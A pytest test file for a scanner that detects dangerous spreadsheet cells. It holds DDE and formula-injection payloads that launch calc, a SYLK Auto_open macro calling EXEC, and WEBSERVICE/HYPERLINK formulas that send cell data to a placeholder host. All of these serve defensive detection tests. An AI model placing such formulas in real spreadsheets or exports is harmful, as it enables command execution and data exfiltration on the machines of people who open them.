"""Cells that act, in texts that a spreadsheet program opens."""

import time

import pytest

from gateway.model import Finding, Level
from gateway.scan.analyzers.cells import CellAnalyzer
from gateway.scan.api import Context
from tests.support import office


def levels(text: str, name: str = "patients.csv") -> dict[str, Level]:
    found = CellAnalyzer().analyze(office.artifact(text.encode(), name), Context())
    return {seen.code: seen.level for seen in found if isinstance(seen, Finding)}


@pytest.mark.parametrize(
    "line",
    [
        "=cmd|' /C calc'!A0",
        "nom;date\r\n\"=cmd|' /C calc'!A0\";2",
        "a,+cmd|'/c calc'!A1,b",
        "a\t@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!A0",
        '=DDE("cmd";"/c calc";"x")',
    ],
)
def test_a_cell_that_starts_a_program_is_malicious(line: str) -> None:
    assert levels(line) == {"office.dde": Level.MALICIOUS}


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "utf-16-be"])
def test_a_cell_counts_in_every_encoding(encoding: str) -> None:
    data = "nom\tnote\r\nDurand\t=cmd|' /C calc'!A0\r\n".encode(encoding)
    (found,) = CellAnalyzer().analyze(office.artifact(data, "patients.tsv"), Context())

    assert isinstance(found, Finding)
    assert found.level is Level.MALICIOUS


@pytest.mark.parametrize(
    "line",
    [
        '=WEBSERVICE("http://a/?"&A1)',
        '=HYPERLINK("http://a/?x="&A1,"ici")',
        '=IMPORTXML("http://a")',
    ],
)
def test_a_cell_that_sends_others_away_is_suspicious(line: str) -> None:
    assert levels(line) == {"office.remote-object": Level.SUSPICIOUS}


@pytest.mark.parametrize(
    "line",
    [
        "nom;prénom;note\r\nDurand;Élise;-2|x!",
        "=SUM(A1:A3);=A1|B1",
        '=HYPERLINK("https://chu.example","site")',
        "a|b|c!\r\n-5|+6|commande!",
        "PID|1||12345^^^CHU!",
        "-- cmd; exec",
    ],
)
def test_an_everyday_table_is_nothing(line: str) -> None:
    assert levels(line) == {}


def test_a_text_about_it_is_nothing() -> None:
    assert levels("=cmd|' /C calc'!A0", "cours.txt") == {}


SYLK = "ID;P\r\n{}NN;N{};ER101C1\r\nC;X1;Y101;K0;E{}\r\nE\r\n"


def test_a_macro_in_sylk_that_starts_programs_is_malicious() -> None:
    assert levels(SYLK.format("O;E\r\n", "Auto_open", 'EXEC("calc")'), "a.slk") == {
        "macro.xlm-acts": Level.MALICIOUS
    }


def test_a_macro_sheet_alone_is_suspicious() -> None:
    assert levels(SYLK.format("O;E\r\n", "x", "1+1"), "a.bin") == {"macro.xlm": Level.SUSPICIOUS}


def test_a_table_in_sylk_is_nothing() -> None:
    assert levels(SYLK.format("", "x", "SUM(R1C1:R2C1)"), "a.slk") == {}


@pytest.mark.parametrize("piece", ["=a", ",", '"', "|", "=a|", "=HYPERLINK(", " ", "C;EXEC("])
def test_nothing_takes_long(piece: str) -> None:
    began = time.process_time()
    levels("ID;P\n" + piece * (400_000 // len(piece)), "a.slk")

    assert time.process_time() - began < 10
